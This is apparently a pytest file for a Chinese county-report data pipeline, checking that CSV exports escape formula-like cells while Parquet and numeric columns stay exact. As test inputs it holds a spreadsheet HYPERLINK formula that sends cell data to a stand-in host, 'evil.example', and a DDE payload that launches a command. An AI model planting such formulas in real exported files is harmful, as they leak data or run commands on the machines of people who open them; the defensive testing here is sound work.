"""CSV for spreadsheets: text cells that start like a formula get a leading apostrophe (OWASP);
numbers stay numbers; Parquet keeps the exact text."""
from __future__ import annotations

import shutil

import pandas as pd
import pyarrow as pa

from juye_analysis.pipeline.build import build
from juye_analysis.pipeline.storage import load_table
from juye_analysis.read.metadata import sha256_file
from juye_analysis.spreadsheet import escape_arrow, escape_cell, escape_frame

from .conftest import RAW, copy_raw

TITLE = '=HYPERLINK("http://evil.example/?q="&A1,"点击")'


def _csv(path) -> pd.DataFrame:
    return pd.read_csv(path, dtype=str, keep_default_na=False, encoding="utf-8-sig")


def test_defect5_formula_cells_in_the_built_csvs_are_escaped(tmp_path):
    """Was: a reports.csv title "=HYPERLINK(...)" and a sentence starting with "-" or "+" went
    verbatim into the Excel-bound CSVs. Now the CSV cells start with an apostrophe, the Parquet
    tables keep the exact text, and numeric columns (negative values too) stay numbers."""
    raw = tmp_path / "raw"
    copy_raw(raw)
    summary = raw / "juye_2025_report_news_summary.txt"
    summary.write_bytes(summary.read_bytes() + "\n-3个项目尚未开工。\n\n+5项工程提前完成。\n".encode())
    meta = pd.read_csv(raw / "reports.csv", dtype=str, keep_default_na=False)
    meta.loc[meta["report_id"] == "juye_2024", "title"] = TITLE
    meta.loc[meta["report_id"] == "juye_2025", "sha256"] = sha256_file(summary)
    meta.to_csv(raw / "reports.csv", index=False)
    out = tmp_path / "out"
    build(raw, out, progress=False)

    reports = load_table("reports", out).set_index("report_id")
    assert reports.loc["juye_2024", "title"] == TITLE  # Parquet: exact
    assert _csv(out / "reports.csv").set_index("report_id").loc["juye_2024", "title"] == "'" + TITLE
    sentences = load_table("sentences", out)
    starts = sentences[sentences["text"].str.match(r"^[-+]")]["text"].tolist()
    assert {t[0] for t in starts} == {"-", "+"}
    csv_texts = set(_csv(out / "sentences.csv")["text"])
    assert all("'" + t in csv_texts and t not in csv_texts for t in starts)
    assert not [t for t in csv_texts if t[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # numbers stay numbers: the CSV column reads back as the Parquet values
    ind = load_table("indicators", out)
    ind_csv = pd.read_csv(out / "indicators.csv", encoding="utf-8-sig")
    for col in ("value", "growth_pct"):
        assert pd.api.types.is_float_dtype(ind_csv[col])
        pd.testing.assert_series_equal(ind_csv[col], ind[col].astype("float64"), check_names=False)


def test_defect5_escape_text_only():
    table = pa.table({"text": ["=1+1", "+86", "-x", "@SUM(A1)", "\tx", "\rx", "正常", None, "a=b"],
                      "value": [-3.5, 1, 2, 3, 4, 5, 6, 7, 8]})
    got = escape_arrow(table)
    assert got.column("text").to_pylist() == ["'=1+1", "'+86", "'-x", "'@SUM(A1)", "'\tx", "'\rx",
                                              "正常", None, "a=b"]
    assert got.column("value").to_pylist() == table.column("value").to_pylist()
    assert escape_cell(-3.5) == -3.5 and escape_cell("-3.5") == "'-3.5"


def test_defect5_the_panel_export_csv_is_escaped(tmp_path):
    from juye_analysis.compare.panel import export_panel

    panel = pd.DataFrame({"county": ["=cmd|' /C calc'!A0", "巨野县"], "value": [-1.5, 2.0]})
    csv, parquet, _ = export_panel(panel, tmp_path / "panel")
    back = pd.read_csv(csv, encoding="utf-8-sig")
    assert back["county"].tolist() == ["'=cmd|' /C calc'!A0", "巨野县"]
    assert back["value"].tolist() == [-1.5, 2.0]
    assert pd.read_parquet(parquet)["county"].tolist() == panel["county"].tolist()
    pd.testing.assert_frame_equal(escape_frame(panel.iloc[1:]), panel.iloc[1:])
